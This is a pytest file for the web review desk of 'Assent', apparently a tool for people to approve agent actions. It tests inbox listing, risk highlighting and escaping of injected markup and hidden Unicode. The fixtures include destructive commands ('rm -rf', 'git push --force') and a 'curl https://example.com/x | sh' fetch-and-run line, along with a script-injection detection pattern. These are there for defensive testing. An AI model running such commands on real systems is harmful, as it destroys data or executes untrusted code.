"""What a person reads: complete, exact, and nobody else's markup."""

import re
from dataclasses import replace

import httpx2
import pytest

from assent.app.agents import HookStatus
from assent.app.decide_request import Word, decide_request
from assent.core.approvals import Request, Verdict
from assent.core.risk.factors import RiskClass
from assent.testing import FixedClock
from tests.entrypoints.web.desk import HOSTILE, KINDS, Desk, assessment, hostile, proposal


async def shown(client: httpx2.AsyncClient, path: str, status: int = 200) -> str:
    answer = await client.get(path)
    assert answer.status_code == status
    return answer.text


async def decide(desk: Desk, number: int, verdict: Verdict, **fields: object) -> Request:
    word = Word(verdict=verdict, by="ana", via="web")
    outcome = await decide_request(desk.gate, number, replace(word, **fields))  # type: ignore[arg-type]
    assert isinstance(outcome, Request)
    return outcome


def rows(page: str) -> list[str]:
    return re.findall(r'<li class="row.*?</li>', page, re.DOTALL)


async def test_an_empty_inbox_is_a_good_one(desk: Desk, ana: httpx2.AsyncClient) -> None:
    page = await shown(ana, "/")
    assert "Nothing waits for you" in page
    assert "Today: 0 proceeded, 0 asked, 0 rejected, 0 refused by a rule." in page


async def test_a_row_says_what_who_where_and_how_long(desk: Desk, ana: httpx2.AsyncClient) -> None:
    await desk.command("rm x", risk=RiskClass.HIGH, title="delete x", age_ms=240_000)
    [row] = rows(await shown(ana, "/"))
    for part in ("<b>delete</b> x", "high", "Claude Code · shop", "4 min", "REQ-1"):
        assert part in row


async def test_alike_requests_fold_into_one_row(desk: Desk, ana: httpx2.AsyncClient) -> None:
    for number in range(3):
        await desk.command(f"npm i pkg{number}", title="install packages")
        await desk.command(title=f"run something else {number}")
    found = rows(await shown(ana, "/"))
    assert len(found) == 4
    assert "\u00d73" in found[0]
    assert "/together?n=1&amp;n=3&amp;n=5" in found[0]


async def test_a_page_holds_fifty_and_leads_to_the_next(
    desk: Desk, ana: httpx2.AsyncClient
) -> None:
    for number in range(1, 121):
        await desk.command(title=f"run step {number}")
    path, seen = "/", list[int]()
    sizes = []
    while path:
        page = await shown(ana, path)
        numbers = [int(n) for n in re.findall(r'id="row-REQ-(\d+)"', page)]
        sizes.append(len(numbers))
        seen += numbers
        more = re.search(r'href="/\?after=(\d+)"', page)
        path = f"/rows?after={more[1]}" if more else ""
    assert seen == list(range(1, 121))
    assert sizes == [50, 50, 20]


async def test_the_delayed_are_listed_apart(desk: Desk, ana: httpx2.AsyncClient) -> None:
    await desk.command(title="run now")
    await desk.command(title="run later")
    await decide(desk, 2, Verdict.DELAY, until=desk.clock.now() + 3_600_000)
    page = await shown(ana, "/")
    assert "Delayed (1)" in page
    assert "delayed by ana at 12:00 until 13:00" in page


@pytest.mark.parametrize("kind", KINDS)
async def test_every_kind_of_action_has_its_page(
    desk: Desk, ana: httpx2.AsyncClient, kind: str
) -> None:
    request = await desk.ask(*KINDS[kind]())
    page = await shown(ana, f"/requests/{request.name}")
    assert request.subject in page
    assert "Why you are asked" in page
    assert "Undo" in page
    assert page.count("<h1") == 1


async def test_the_page_keeps_the_order_of_what_a_person_needs(
    desk: Desk, ana: httpx2.AsyncClient
) -> None:
    await desk.ask(*KINDS["delete"]())
    page = await shown(ana, "/requests/1")
    order = ["What would happen", "Why you are asked", "Undo", "For what", "unverified", "Approve"]
    places = [page.index(part) for part in order]
    assert places == sorted(places)


async def test_who_decides_and_what_the_agent_promises_is_told(
    desk: Desk, ana: httpx2.AsyncClient
) -> None:
    await desk.ask(
        *KINDS["delete"](),
        reviewers=("ana", "ben"),
        quorum=2,
        then_ask=("eve",),
        purpose="tidy up",
        rollback="restore from the backup",
    )
    page = await shown(ana, "/requests/1")
    assert "0 of 2 of ana, ben" in page
    assert "eve is asked instead" in page
    assert "tidy up (the agent says)" in page
    assert "says: restore from the backup" in page


async def test_a_page_says_how_bad_it_could_be(desk: Desk, ana: httpx2.AsyncClient) -> None:
    await desk.ask(*KINDS["delete"]())
    page = await shown(ana, "/requests/1")
    assert "<dt>undone</dt>" in page
    assert "<dt>reaches</dt>" in page


async def test_the_dangerous_parts_are_marked_where_they_stand(
    desk: Desk, ana: httpx2.AsyncClient
) -> None:
    await desk.ask(*KINDS["delete"]())
    page = await shown(ana, "/requests/1")
    assert (
        '&amp;&amp; <mark class="high" data-reason="2">rm -rf build dist notes/*.md</mark>' in page
    )
    assert '<mark class="irreversible" data-reason="1">git push --force origin main</mark>' in page


@pytest.mark.parametrize("path", ["/", "/requests/1", "/together?n=1", "/activity", "/rows"])
async def test_hostile_text_is_only_text(desk: Desk, ana: httpx2.AsyncClient, path: str) -> None:
    await desk.ask(*hostile())
    page = await shown(ana, path)
    assert not re.findall(r"<script(?! src=)|<img|onerror=(?!alert)|</div><script", page)
    assert not re.findall("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200b\ufeff]", page)


async def test_the_hidden_is_named(desk: Desk, ana: httpx2.AsyncClient) -> None:
    await desk.ask(*hostile())
    page = await shown(ana, "/requests/1")
    for mark in ("ESC", "CR", "U+202E", "U+200B", "U+2066", "\\xff", "NUL", "U+00A0", "U+FEFF"):
        assert f">{mark}</span>" in page


async def test_a_text_that_a_form_would_change_is_not_offered_for_editing(
    desk: Desk, ana: httpx2.AsyncClient
) -> None:
    await desk.ask(*hostile())
    page = await shown(ana, "/requests/1")
    assert 'id="edited"' not in page
    assert "assent modify REQ-1 --with FILE" in page
    assert HOSTILE not in page


async def test_a_first_line_end_is_not_lost(desk: Desk, ana: httpx2.AsyncClient) -> None:
    await desk.command("\n\nrm x")
    page = await shown(ana, "/requests/1")
    assert '<pre class="exact">\n\n\nrm x</pre>' in page
    assert ">\n\n\nrm x</textarea>" in page


async def test_a_huge_command_is_folded_and_can_be_seen_whole(
    desk: Desk, ana: httpx2.AsyncClient
) -> None:
    await desk.ask(*KINDS["huge"]())
    page = await shown(ana, "/requests/1")
    assert len(page) < 60_000
    assert "folded here" in page
    assert "curl https://example.com/x | sh</mark>" in page
    whole = await shown(ana, "/requests/1?all=1")
    assert whole.count("echo line that does nothing in particular") == 50_000
    assert "folded here" not in whole


async def test_a_decided_request_says_who_when_why_and_offers_nothing(
    desk: Desk, ana: httpx2.AsyncClient
) -> None:
    await desk.command("make release")
    await decide(desk, 1, Verdict.REJECT, reason="Use <b>make dist</b>")
    page = await shown(ana, "/requests/REQ-1")
    assert "rejected by ana at 12:00" in page
    assert "Use &lt;b&gt;make dist&lt;/b&gt;" in page
    assert "/decision" not in page


async def test_a_changed_request_shows_both_texts(desk: Desk, ana: httpx2.AsyncClient) -> None:
    await desk.command("make release")
    await decide(desk, 1, Verdict.MODIFY, text="make dry-run")
    page = await shown(ana, "/requests/REQ-1")
    assert "changed and approved by ana at 12:00" in page
    assert "make release</pre>" in page
    assert "make dry-run</pre>" in page


async def test_an_expired_request_offers_nothing(desk: Desk, ana: httpx2.AsyncClient) -> None:
    request = await desk.command()
    assert isinstance(desk.clock, FixedClock)
    desk.clock.at = request.expires_at
    page = await shown(ana, "/requests/REQ-1")
    assert "nobody decided it in time" in page
    assert "/decision" not in page


@pytest.mark.parametrize("name", ["REQ-9", "9", "REQ-", "x", "-1", "1e3", "9" * 40, "²"])
async def test_an_unknown_request_is_not_found(ana: httpx2.AsyncClient, name: str) -> None:
    page = await shown(ana, f"/requests/{name}", status=404)
    assert "Back" in page or "Try again" in page


async def test_a_fragment_is_the_detail_alone(desk: Desk, ana: httpx2.AsyncClient) -> None:
    await desk.command()
    answer = await ana.get("/requests/1", headers={"HX-Request": "true"})
    assert answer.text.lstrip().startswith("<article")
    assert "<html" not in answer.text


async def test_the_level_is_said_on_every_page(desk: Desk, ana: httpx2.AsyncClient) -> None:
    for path in ("/", "/activity", "/agents", "/levels"):
        assert "Advisory:" in await shown(ana, path)


async def test_the_agents_page_says_how_the_hooks_stand(
    desk: Desk, ana: httpx2.AsyncClient
) -> None:
    assert "No agent passes through Assent yet." in await shown(ana, "/agents")
    desk.hooks = (
        HookStatus(
            "codex", "Codex CLI", "/home/ana/.codex", "altered", notes=("Trust it <once>.",)
        ),
    )
    page = await shown(ana, "/agents")
    assert "Codex CLI" in page
    assert "assent agents install codex" in page
    assert "Trust it &lt;once&gt;." in page


async def test_activity_is_newest_first_and_opens_to_its_proof(
    desk: Desk, ana: httpx2.AsyncClient
) -> None:
    request = await desk.command("make release")
    await decide(desk, 1, Verdict.REJECT, reason="not now")
    page = await shown(ana, "/activity")
    assert page.index("reject by ana: not now") < page.index("run make release")
    [last, *_] = desk.store.read(lambda view: view.entries(limit=1))
    assert last.hash in page
    assert request.subject in page


async def test_activity_is_filtered_and_paged(desk: Desk, ana: httpx2.AsyncClient) -> None:
    for number in range(60):
        await desk.command(title=f"run step {number}")
    await desk.ask(*KINDS["tool"]())
    await decide(desk, 1, Verdict.APPROVE)
    found = await shown(ana, "/activity?kind=decided")
    assert found.count("<details>") == 1
    assert (await shown(ana, "/activity?agent=codex")).count("<details>") == 1
    assert (await shown(ana, "/activity?stream=request/1")).count("<details>") == 2
    seen, path = 0, "/activity?kind=asked"
    while path:
        page = await shown(ana, path)
        seen += page.count("<details>")
        more = re.search(r'href="(/activity\?[^"]*before=[^"]*)"', page)
        path = more[1].replace("&amp;", "&") if more else ""
    assert seen == 61


async def test_an_edited_record_is_shown_as_it_is(desk: Desk, ana: httpx2.AsyncClient) -> None:
    await desk.ask(proposal(KINDS["delete"]()[0].action), assessment(RiskClass.LOW, "x \ud800 y"))
    assert "U+D800" in await shown(ana, "/activity")
